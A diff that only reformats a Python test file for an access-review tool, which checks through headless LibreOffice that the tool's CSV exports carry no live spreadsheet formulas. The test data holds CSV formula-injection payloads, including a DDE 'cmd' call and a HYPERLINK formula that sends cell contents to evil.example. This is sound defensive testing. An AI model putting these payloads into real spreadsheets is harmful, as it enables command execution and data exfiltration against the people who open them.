@@ -5,6 +5,7 @@
 (``access_review/csv_output.py``) serves every CSV — those two, the superintendent's csv
 folder and evidence packs — and each is opened here by LibreOffice itself.
 """
+
 from __future__ import annotations
 
 import shutil
@@ -37,7 +38,14 @@ def test_formula_like_cells_get_a_leading_quote(text):
 
 
 def test_numbers_stay_numbers_and_ordinary_text_is_untouched():
-    assert [csv_text(v) for v in (-5, 2.5, None, True, "O'Brien", "a=b")] == ["-5", "2.5", "", "True", "O'Brien", "a=b"]
+    assert [csv_text(v) for v in (-5, 2.5, None, True, "O'Brien", "a=b")] == [
+        "-5",
+        "2.5",
+        "",
+        "True",
+        "O'Brien",
+        "a=b",
+    ]
     assert build_csv(["a", "=b"], [["=1+1", 3]]) == "a,'=b\r\n'=1+1,3\r\n"
 
 
@@ -48,9 +56,21 @@ def libreoffice_to_xlsx(files: list[Path], outdir: Path) -> dict[str, Path]:
     profile = Path("/tmp") / f"lo-{uuid.uuid4().hex}"  # noqa: S108 (a fresh, uniquely named LibreOffice profile, removed after)
     try:
         proc = subprocess.run(  # noqa: S603 (LibreOffice with arguments the test builds)
-            ["soffice", "--headless", f"-env:UserInstallation=file://{profile}", f"--infilter={CSV_IMPORT}",  # noqa: S607 (soffice from PATH, installed by scripts/test)
-             "--convert-to", "xlsx", "--outdir", str(outdir), *map(str, files)],
-            capture_output=True, text=True, timeout=300)
+            [  # noqa: S607 (soffice from PATH, installed by scripts/test)
+                "soffice",
+                "--headless",
+                f"-env:UserInstallation=file://{profile}",
+                f"--infilter={CSV_IMPORT}",
+                "--convert-to",
+                "xlsx",
+                "--outdir",
+                str(outdir),
+                *map(str, files),
+            ],
+            capture_output=True,
+            text=True,
+            timeout=300,
+        )
     finally:
         shutil.rmtree(profile, ignore_errors=True)
     assert proc.returncode == 0, proc.stderr
@@ -74,12 +94,29 @@ def formulas_and_values(path: Path) -> tuple[list[str], set]:
 def hostile_campaign() -> CampaignView:
     when = datetime(2026, 11, 28, 9, 0, tzinfo=timezone.utc)
     items = tuple(
-        CampaignItemView(item_id=f"I{i}", person=text, employee_id=f"E{i}", account=text, resource="Payroll",
-                         classification="critical", path=text, flags=(text,), recommendation="Revoke",
-                         reviewer=text, decision="revoke", decision_source="default", justification=text,
-                         decided_by=text, decided_at=when, action=text, action_result="changed",
-                         action_message=text, verification="gone")
-        for i, text in enumerate(HOSTILE))
+        CampaignItemView(
+            item_id=f"I{i}",
+            person=text,
+            employee_id=f"E{i}",
+            account=text,
+            resource="Payroll",
+            classification="critical",
+            path=text,
+            flags=(text,),
+            recommendation="Revoke",
+            reviewer=text,
+            decision="revoke",
+            decision_source="default",
+            justification=text,
+            decided_by=text,
+            decided_at=when,
+            action=text,
+            action_result="changed",
+            action_message=text,
+            verification="gone",
+        )
+        for i, text in enumerate(HOSTILE)
+    )
     return CampaignView(1, "=2026Q4", "verified", when, when.date(), {"ad": when}, items)
 
 
@@ -94,16 +131,32 @@ def test_every_csv_the_tool_writes_opens_in_libreoffice_without_a_live_formula(t
         return result.stdout
 
     (csvs / "findings.csv").write_text(run("findings", "--format", "csv"), encoding="utf-8")
-    (csvs / "who.csv").write_text(run("who", "Special Education Records", "--format", "csv"), encoding="utf-8")
-    run("export", "superintendent", "--format", "csv", "--out", str(tmp_path / "sheets"), "--today", "2026-11-28")
+    (csvs / "who.csv").write_text(
+        run("who", "Special Education Records", "--format", "csv"), encoding="utf-8"
+    )
+    run(
+        "export",
+        "superintendent",
+        "--format",
+        "csv",
+        "--out",
+        str(tmp_path / "sheets"),
+        "--today",
+        "2026-11-28",
+    )
     with Store(tmp_path / "district" / "store.db") as store:
         write_evidence_pack(build_evidence_pack(store, hostile_campaign()), tmp_path / "pack")
     # The control: the same text written by a plain csv writer is a live formula in LibreOffice,
     # so a clean result below means the writer neutralized it, not that LibreOffice ignores it.
-    (csvs / "naive.csv").write_text("name\n=1+1\n\"=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\"\n",
-                                    encoding="utf-8")
-    files = [*csvs.glob("*.csv"), *(tmp_path / "sheets").glob("*.csv"), *(tmp_path / "pack").glob("*.csv")]
-    assert len(files) == 3 + 10 + 7   # findings, who, control; superintendent sheets; evidence pack
+    (csvs / "naive.csv").write_text(
+        'name\n=1+1\n"=HYPERLINK(""http://evil.example"",""x"")"\n', encoding="utf-8"
+    )
+    files = [
+        *csvs.glob("*.csv"),
+        *(tmp_path / "sheets").glob("*.csv"),
+        *(tmp_path / "pack").glob("*.csv"),
+    ]
+    assert len(files) == 3 + 10 + 7  # findings, who, control; superintendent sheets; evidence pack
     converted = libreoffice_to_xlsx(files, tmp_path / "lo")
 
     naive_formulas, _ = formulas_and_values(converted.pop("naive.csv"))
@@ -115,6 +168,12 @@ def test_every_csv_the_tool_writes_opens_in_libreoffice_without_a_live_formula(t
         assert formulas == [], f"{name}: live formulas {formulas}"
         seen |= values
     # The hostile text is there, literally, behind its quote.
-    for text in ("=1+1", "-2+3", "@SUM(A1)", "+cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-                 *FULL_WIDTH):
+    for text in (
+        "=1+1",
+        "-2+3",
+        "@SUM(A1)",
+        "+cmd|' /C calc'!A0",
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        *FULL_WIDTH,
+    ):
         assert "'" + text in seen, text
